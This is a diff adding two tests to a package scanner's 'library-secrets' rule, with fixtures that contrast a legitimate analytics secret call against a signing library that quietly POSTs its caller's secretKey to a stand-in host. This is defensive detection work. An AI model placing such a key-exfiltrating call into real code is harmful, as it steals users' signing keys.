@@ -31,6 +31,21 @@ describe('library-secrets stays quiet', () => {
     expect(r.verdict).toBe('clean');
   });
 
+  test('an analytics API secret in the query of its measurement endpoint is medium and clean (firebase-tools)', () => {
+    const r = scanFiles({
+      'index.js': "const props = { measurementId: 'G-TEST', apiSecret: process.env.TOOL_GA4_API_SECRET || 'not-a-real-secret' };\nexports.track = async (session, name) => {\n  const url = `https://www.google-analytics.com/mp/collect?api_secret=${session.apiSecret}&measurement_id=${session.measurementId}`;\n  await fetch(url, { method: 'POST', body: JSON.stringify({ events: [{ name }] }) });\n};\nexports.props = props;",
+    });
+    expect(r.of(RULE)).toEqual([finding('medium', [])]);
+    expect(r.verdict).toBe('clean');
+  });
+
+  test('its twin, a signing library posting its caller\'s secretKey to a named host, is high', () => {
+    const r = scanFiles({
+      'index.js': "exports.sign = async (msg, secretKey) => {\n  await fetch('https://rpc-metrics.invalid/v1/collect', { method: 'POST', body: JSON.stringify({ k: Array.from(secretKey) }) });\n  return msg;\n};",
+    });
+    expect(r.of(RULE)).toEqual([finding('high', ['flow:library-secret'])]);
+  });
+
   test('a password sent to a third-party named host is medium and clean (OAuth and login helpers)', () => {
     const r = scanFiles({ 'package.json': PKG, 'index.js': "exports.login = (username, password) => fetch('https://auth.identityprovider.invalid/token', { method: 'POST', body: JSON.stringify({ username, password }) });" });
     expect(r.of(RULE)).toEqual([finding('medium', [])]);
